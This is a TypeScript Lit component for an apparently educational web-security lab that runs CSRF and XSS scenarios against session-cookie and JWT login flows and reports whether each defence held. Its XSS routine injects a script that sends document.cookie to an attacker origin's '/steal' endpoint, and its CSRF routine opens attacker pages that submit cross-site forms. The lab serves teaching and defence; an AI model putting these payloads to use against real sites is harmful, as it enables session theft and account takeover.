import { LitElement, html, css, nothing } from 'lit';
import { customElement, property, state } from 'lit/decorators.js';
import type { Flow, LabSettings, ScenarioInfo, ScenarioOutcome, ScenarioResult } from '../../server/protocol.js';
import { docHref } from '../links.js';
import { sharedStyles } from './shared-styles.js';

interface Registry {
  scenarios: ScenarioInfo[];
  attackerOrigin: string | null;
}

const FLOWS: readonly Flow[] = ['session', 'jwt'];
const VERDICT_TEXT: Record<ScenarioOutcome['verdict'], string> = {
  protected: 'held',
  exposed: 'exposed',
  'not-applicable': 'not applicable',
};

/**
 * The attack lab (docs/attacks.md): one button per scenario. A server scenario is run by the server
 * against itself (POST /api/lab/scenarios/:id), its requests traced into this viewer's lanes; the
 * CSRF and XSS scenarios run here in the browser, against the attacker page on a second origin.
 * Each answer shows both flows side by side, with the requests made and a link to the walkthrough.
 *
 * @fires lab-settings-changed - a scenario changed this viewer's settings: detail is the new settings
 */
@customElement('attack-panel')
export class AttackPanel extends LitElement {
  static override styles = [
    sharedStyles,
    css`
      .buttons {
        display: flex;
        flex-wrap: wrap;
        gap: 0.4rem;
        margin-bottom: 0.75rem;
      }
      .outcomes {
        display: grid;
        grid-template-columns: repeat(2, minmax(0, 1fr));
        gap: 0.75rem;
      }
      @media (max-width: 700px) {
        .outcomes {
          grid-template-columns: minmax(0, 1fr);
        }
      }
      .flow {
        border: 1px solid var(--line);
        border-radius: 6px;
        padding: 0.5rem 0.75rem;
      }
      .flow[data-flow='session'] {
        border-top: 4px solid var(--session);
      }
      .flow[data-flow='jwt'] {
        border-top: 4px solid var(--jwt);
      }
      .verdict-protected {
        color: var(--ok);
        font-weight: 600;
      }
      .verdict-exposed {
        color: var(--bad);
        font-weight: 600;
      }
      ol {
        padding-left: 1.2rem;
        margin: 0.4rem 0 0;
        font-size: 0.9rem;
      }
      .error {
        color: var(--bad);
        font-weight: 600;
      }
    `,
  ];

  /** The viewer's current settings, to show what a scenario runs under. */
  @property({ attribute: false }) settings: LabSettings | null = null;

  @state() private registry: Registry | null = null;
  @state() private busy: string | null = null;
  @state() private result: { scenario: ScenarioInfo; flows: Record<Flow, ScenarioOutcome> | null; note: string } | null = null;
  @state() private error: string | null = null;

  override connectedCallback() {
    super.connectedCallback();
    void this.load();
  }

  override render() {
    if (!this.registry) return html`<p class="muted">${this.error ?? 'Loading the scenarios…'}</p>`;
    return html`
      <div class="buttons" role="group" aria-label="Scenarios">
        ${this.registry.scenarios.map(
          (s) => html`<button type="button" data-scenario=${s.id} ?disabled=${this.busy !== null} title=${s.summary}
            @click=${() => this.run(s)}>${s.title}</button>`,
        )}
      </div>
      <p class="error" role="alert">${this.error ?? nothing}</p>
      ${this.busy ? html`<p role="status">Running ${this.busy}…</p>` : nothing}
      ${this.result ? this.renderResult() : nothing}
    `;
  }

  private renderResult() {
    const { scenario, flows, note } = this.result!;
    return html`<section aria-live="polite" data-testid="scenario-result">
      <h3>${scenario.title}</h3>
      <p>${scenario.summary} <a href=${docHref(scenario.doc)}>Walkthrough</a></p>
      ${note ? html`<p class="muted">${note}</p>` : nothing}
      ${flows
        ? html`<div class="outcomes">
            ${FLOWS.map((flow) => {
              const outcome = flows[flow];
              return html`<div class="flow" data-flow=${flow}>
                <h4>${flow === 'session' ? 'Session' : 'JWT'}:
                  <span class="verdict-${outcome.verdict}" data-verdict=${outcome.verdict}>${VERDICT_TEXT[outcome.verdict]}</span></h4>
                <p>${outcome.summary}</p>
                ${outcome.requests.length > 0
                  ? html`<ol>
                      ${outcome.requests.map((r) => html`<li><code>${r.status}</code> ${r.method} ${r.path}: ${r.label}${r.error ? html` — ${r.error}` : nothing}</li>`)}
                    </ol>`
                  : nothing}
              </div>`;
            })}
          </div>`
        : nothing}
    </section>`;
  }

  private async load() {
    try {
      const res = await fetch('/api/lab/scenarios', { headers: { Accept: 'application/json' } });
      if (!res.ok) throw new Error(`${res.status}`);
      this.registry = (await res.json()) as Registry;
    } catch {
      this.error = 'The scenarios could not be loaded.';
    }
  }

  private async run(scenario: ScenarioInfo) {
    this.busy = scenario.title;
    this.error = null;
    try {
      if (scenario.runsIn === 'server') await this.runOnServer(scenario);
      else if (scenario.id === 'csrf') await this.runCsrf(scenario);
      else if (scenario.id === 'xss-reading-cookies') await this.runXss(scenario);
    } catch (err) {
      this.error = err instanceof Error ? err.message : 'The scenario failed.';
    } finally {
      this.busy = null;
    }
  }

  private async runOnServer(scenario: ScenarioInfo) {
    const res = await fetch(`/api/lab/scenarios/${scenario.id}`, { method: 'POST', headers: { Accept: 'application/json' } });
    const body = (await res.json().catch(() => null)) as (ScenarioResult & { error?: string }) | null;
    if (!res.ok || !body) throw new Error(body?.error ?? `The scenario answered ${res.status}.`);
    this.result = { scenario, flows: body.flows, note: '' };
    this.dispatchEvent(new CustomEvent('lab-settings-changed', { detail: body.settings, bubbles: true, composed: true }));
  }

  // CSRF: the attacker's page, on the second origin, submits one cross-site form per load; it is
  // opened in one named window, once per attack. Then this page asks the server what changed.
  private async runCsrf(scenario: ScenarioInfo) {
    const origin = this.requireAttacker();
    const flows = {} as Record<Flow, ScenarioOutcome>;
    for (const flow of FLOWS) {
      for (const action of ['follow', 'logout']) {
        window.open(`${origin}/csrf?flow=${flow}&action=${action}`, 'lab-attacker');
        await new Promise((r) => setTimeout(r, 1200)); // the form posts as the page loads
      }
    }
    for (const flow of FLOWS) {
      const me = await fetch(`/api/${flow}/me`);
      const following = me.ok ? ((await (await fetch(`/api/${flow}/following`)).json()) as { following: string[] }).following : [];
      const hit = !me.ok || following.includes('mallory');
      flows[flow] = {
        verdict: hit ? 'exposed' : 'protected',
        summary: hit
          ? `The attack got through: ${me.ok ? 'you now follow mallory' : 'you were logged out'}${me.ok ? '' : ' (log in again to check the follow)'}.`
          : 'Still logged in and following nobody new: the cross-site forms were refused or sent without your cookies.',
        requests: [],
      };
    }
    this.result = { scenario, flows, note: `Settings: csrfCheck ${this.settings?.csrfCheck ? 'on' : 'off'}, SameSite ${this.settings?.sameSite ?? 'lax'}. Log in on both lanes first; after changing SameSite, log in again.` };
  }

  // XSS: the payload an unescaped comment field would run, injected into this page.
  private async runXss(scenario: ScenarioInfo) {
    const origin = this.requireAttacker();
    const id = Array.from(crypto.getRandomValues(new Uint8Array(16)), (b) => b.toString(16).padStart(2, '0')).join('');
    const script = document.createElement('script');
    script.textContent = `new Image().src = ${JSON.stringify(`${origin}/steal?id=${id}&c=`)} + encodeURIComponent(document.cookie);`;
    document.body.append(script);
    script.remove();
    const seen = document.cookie;
    await new Promise((r) => setTimeout(r, 500));
    const loot = ((await (await fetch(`${origin}/loot?id=${id}`)).json()) as { loot: { token: string | null; claims: Record<string, unknown> | null } | null }).loot;
    const stolen = loot?.token ? `the token, whose payload holds ${Object.keys(loot.claims ?? {}).join(', ')}` : 'no credential';
    const outcome = (flow: Flow): ScenarioOutcome => {
      const readable = flow === 'jwt' ? Boolean(loot?.token) : /(^|; )(__Host-)?sid=/.test(seen);
      return {
        verdict: readable ? 'exposed' : 'protected',
        summary: readable ? `The script read the cookie and the attacker now holds ${stolen}.` : 'HttpOnly: the script saw nothing of this flow’s cookie.',
        requests: [],
      };
    };
    this.result = { scenario, flows: { session: outcome('session'), jwt: outcome('jwt') }, note: `document.cookie as the injected script saw it: "${seen}".` };
  }

  private requireAttacker(): string {
    const origin = this.registry?.attackerOrigin;
    if (!origin) throw new Error('The attacker page is not running on this server (see ATTACKER_PORT).');
    return origin;
  }
}

declare global {
  interface HTMLElementTagNameMap {
    'attack-panel': AttackPanel;
  }
}
